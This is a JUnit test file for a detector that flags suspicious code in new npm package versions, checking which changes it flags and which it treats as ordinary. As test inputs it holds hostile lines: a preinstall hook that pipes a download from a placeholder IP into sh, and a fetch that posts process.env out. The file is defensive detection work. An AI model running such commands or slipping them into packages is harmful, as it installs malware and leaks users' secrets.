package dev.lazaret.policy.signal;

import static dev.lazaret.policy.Fixtures.context;
import static dev.lazaret.policy.Fixtures.version;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.policy.Contents;
import dev.lazaret.policy.PackageFacts;
import dev.lazaret.policy.SignalResult;
import dev.lazaret.policy.content.ContentFacts;
import dev.lazaret.policy.content.Samples;
import java.time.Duration;
import org.junit.jupiter.api.Test;

class SuspiciousCodeTest {

  private static final PackageFacts FACTS = PackageFacts.builder("p")
      .version(version("1.0.0", Duration.ofDays(300), "a").build())
      .version(version("1.0.1", Duration.ofHours(2), "a").build()).build();

  private static SignalResult judge(ContentFacts content) {
    return new SuspiciousCode().evaluate(context(FACTS, "1.0.1", content));
  }

  @Test
  void obfuscationInjectedIntoIndexJsFires() {
    SignalResult r = judge(Contents.since("1.0.0").changed("index.js",
        "module.exports = chalk;", Samples.text("chalk-index.js"), false).build());
    assertThat(r.fired()).isTrue();
    assertThat(r.value()).isEqualTo("network call, obfuscation");
    assertThat(r.sentence()).startsWith("Suspicious code in what changed since 1.0.0: index.js"
        + " (changed) makes a network call and is obfuscated (_0x identifiers, a rotated string"
        + " array) (index.js:4).");
    assertThat(r.phrase()).isEqualTo("with suspicious code in index.js");
  }

  @Test
  void aNetworkCallInAFileRunAtInstallFires() {
    assertThat(judge(Contents.since("1.0.0").hook("postinstall", "node t.js")
        .added("t.js", "require('https').get('https://example.invalid/ping')", true).build())
        .fired()).isTrue();
  }

  @Test
  void aNetworkCallInLibraryCodeIsOrdinary() {
    SignalResult r = judge(Contents.since("1.0.0").changed("lib/adapters/http.js",
        "export default 1;", Samples.text("benign-axios-http.js"), false).build());
    assertThat(r.fired()).isFalse();
    assertThat(r.sentence()).isEqualTo("Nothing suspicious in what changed since 1.0.0:"
        + " lib/adapters/http.js makes a network call (lib/adapters/http.js:3, 4), which is"
        + " ordinary where it is.");
  }

  @Test
  void readingSecretsAndSendingThemFromLibraryCodeFires() {
    assertThat(judge(Contents.since("1.0.0").added("lib/telemetry.js",
        "fetch(u, {method: 'POST', body: JSON.stringify(process.env)})", false).build())
        .fired()).isTrue();
  }

  @Test
  void encodedDataCountsOnlyWithSomethingElse() {
    // node-ipc 10.1.1: base64-hidden strings and a geo-IP call in a library file.
    assertThat(judge(Contents.since("1.0.0").added("dao/ssl-geospec.js",
        Samples.text("node-ipc-ssl-geospec.js"), false).build()).fired()).isTrue();
    assertThat(judge(Contents.since("1.0.0").added("lib/wasm.js",
        "module.exports = Buffer.from('AGFzbQEAAAA=', 'base64');", false).build()).fired())
        .isFalse();
  }

  @Test
  void testsAndFixturesReadingTokensWithMockedHttpAreOrdinary() {
    assertThat(judge(Contents.since("1.0.0").added("test/auth.test.js",
        Samples.text("benign-npm-auth-test.js"), false).build()).fired()).isFalse();
    // ... but a test file run at install is not a test.
    assertThat(judge(Contents.since("1.0.0").added("test/setup.js",
        Samples.text("eslint-scope-build.js"), true).build()).fired()).isTrue();
  }

  @Test
  void aDownloadPipedToAShellInANewInstallCommandFires() {
    SignalResult r = judge(Contents.since("1.0.0")
        .hook("preinstall", "curl -s http://198.51.100.9/i.sh | sh").build());
    assertThat(r.fired()).isTrue();
    assertThat(r.sentence()).contains("the preinstall command makes a network call and runs"
        + " downloaded or decoded content (package.json:1)");
  }

  @Test
  void minifiedBundlesAndDataUrisAreNotSuspicious() {
    assertThat(judge(Contents.since("1.0.0")
        .added("dist/dayjs.min.js", Samples.text("benign-terser.min.js"), false)
        .added("dist/main.js", Samples.text("benign-webpack-dev.js"), false)
        .added("dist/icons.css", Samples.text("benign-font.css"), false).build()).sentence())
        .isEqualTo("Nothing suspicious in what changed since 1.0.0.");
  }

  @Test
  void aFileRunAtInstallThatCouldNotBeScannedFires() {
    // Shai-Hulud: postinstall ran a 3.6 MB bundle, past what the inspection keeps to scan.
    SignalResult r = judge(Contents.since("1.0.0").hook("postinstall", "node bundle.js")
        .addedUnscanned("bundle.js", 3_600_000, true, "too large to scan").build());
    assertThat(r.fired()).isTrue();
    assertThat(r.value()).isEqualTo("unscanned install-time file");
    assertThat(r.sentence()).isEqualTo("Suspicious code in what changed since 1.0.0:"
        + " postinstall runs bundle.js (added, 3.6 MB), too large to scan.");
    assertThat(r.phrase()).isEqualTo("with suspicious code in bundle.js");
  }

  @Test
  void aLargeFileNotRunAtInstallIsNotJudgedUnscanned() {
    // A dist bundle past the scanning bounds is ordinary: it does not run at install.
    assertThat(judge(Contents.since("1.0.0").hook("postinstall", "node hi.js")
        .addedUnscanned("dist/app.js", 9_000_000, false, "too large to scan").build()).fired())
        .isFalse();
  }

  @Test
  void notInspectedIsQuiet() {
    assertThat(judge(null).sentence()).isEqualTo("The tarball was not inspected.");
  }
}
